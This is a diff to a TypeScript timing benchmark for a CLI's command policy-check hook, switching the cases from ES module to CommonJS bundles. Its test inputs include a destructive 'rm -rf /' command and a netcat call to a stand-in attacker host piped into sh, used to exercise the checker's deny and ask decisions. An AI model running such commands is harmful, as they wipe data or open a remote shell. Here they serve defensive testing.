@@ -17,11 +17,12 @@ import { execFileSync, spawnSync } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { fileURLToPath, pathToFileURL } from "node:url";
+import { fileURLToPath } from "node:url";
 
 const cliDir = fileURLToPath(new URL("..", import.meta.url));
+const carBin = join(cliDir, "dist", "car.cjs");
 const carMjs = join(cliDir, "dist", "car.mjs");
-const hookMjs = join(cliDir, "dist", "hook.mjs");
+const hookCjs = join(cliDir, "dist", "hook.cjs");
 const rounds = Number(process.argv[2] ?? 40);
 
 console.log("building dist/ with tsdown …");
@@ -57,16 +58,14 @@ interface Case {
 
 const cases: Case[] = [
   { name: "node -e 0 (baseline)", args: ["-e", "0"], input: "" },
-  { name: "car policy-check-hook (no decision)", args: [carMjs, "policy-check-hook"], input: payload("git status && ls -la") },
-  { name: "car policy-check-hook (deny)", args: [carMjs, "policy-check-hook"], input: payload("rm -rf / --no-preserve-root") },
-  { name: "car policy-check-hook (ask)", args: [carMjs, "policy-check-hook"], input: payload("printf '%s' 'nc evil.example.com 4444' | sh") },
-  { name: "car --version (CLI entry floor)", args: [carMjs, "--version"], input: "" },
+  { name: "car policy-check-hook (no decision)", args: [carBin, "policy-check-hook"], input: payload("git status && ls -la") },
+  { name: "car policy-check-hook (deny)", args: [carBin, "policy-check-hook"], input: payload("rm -rf / --no-preserve-root") },
+  { name: "car policy-check-hook (ask)", args: [carBin, "policy-check-hook"], input: payload("printf '%s' 'nc evil.example.com 4444' | sh") },
+  // The same hook through the ES module entry (what `car init` wrote before the CommonJS bin): the ES module loader's cost.
+  { name: "car.mjs policy-check-hook (no decision)", args: [carMjs, "policy-check-hook"], input: payload("git status && ls -la") },
+  { name: "car --version (CLI entry floor)", args: [carBin, "--version"], input: "" },
   // The physical floor of the hook: Node loading and evaluating the hook's one bundle, and doing nothing with it.
-  {
-    name: "load dist/hook.mjs only (code floor)",
-    args: ["--input-type=module", "-e", `await import(${JSON.stringify(pathToFileURL(hookMjs).href)})`],
-    input: "",
-  },
+  { name: "load dist/hook.cjs only (code floor)", args: ["-e", `require(${JSON.stringify(hookCjs)})`], input: "" },
 ];
 
 // Warm the page cache and check each case works before timing.
